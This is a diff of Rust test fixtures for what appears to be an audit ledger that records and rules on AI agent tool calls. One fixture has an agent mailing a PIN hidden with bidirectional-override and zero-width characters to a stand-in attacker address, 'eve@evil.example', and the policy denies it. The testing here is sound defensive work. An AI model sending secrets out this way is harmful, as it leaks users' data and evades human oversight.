@@ -82,12 +82,15 @@ fn call(number: u64, at: i64, tool: &str) -> Record {
         method: Some("tools/call".into()),
         target: Some(tool.into()),
         pin: None,
+        effect: None,
+        errand: None,
         effects: BTreeSet::from([Effect::Read]),
         arguments_digest: None,
         arguments: Some(json!({"folder": "inbox", "count": 3}).into()),
         snapshot: Digest::of_bytes(b"first law"),
         decision: Some(decision(Decision::allow(), ("mail-read", "Agents may read mail"), &[])),
         credential: None,
+        plan: None,
         labels: labels(&["untrusted"]),
         flow: None,
         stages: stages.map(|(stage, at_us)| StageTime { stage: (*stage).into(), at_us }).collect(),
@@ -130,6 +133,8 @@ fn denied(number: u64, at: i64) -> Record {
     let words = "sending mail is denied after reading untrusted text";
     Record {
         arguments: Some(json!({"to": "eve@evil.example", "text": "pin\u{202e}4321\u{200b}"}).into()),
+        effect: None,
+        errand: None,
         effects: BTreeSet::from([Effect::Egress, Effect::Write]),
         decision: Some(decision(
             Decision::Deny(Reason::Forbidden),
@@ -153,6 +158,8 @@ fn question(number: u64, at: i64) -> Record {
         direction: Direction::ToClient,
         method: Some("elicitation/create".into()),
         target: None,
+        effect: None,
+        errand: None,
         effects: BTreeSet::new(),
         arguments: None,
         decision: None,
@@ -378,7 +385,7 @@ fn a_story_is_found_by_trace_prefix_task_or_number() {
             .map(|entry| match entry {
                 Entry::Intent(intent) => intent.number,
                 Entry::Record(record) => record.number,
-                Entry::Event(_) => panic!("an event is in no story"),
+                Entry::Event(_) | Entry::Said(_) => panic!("the ledger holds none"),
             })
             .collect()
     };
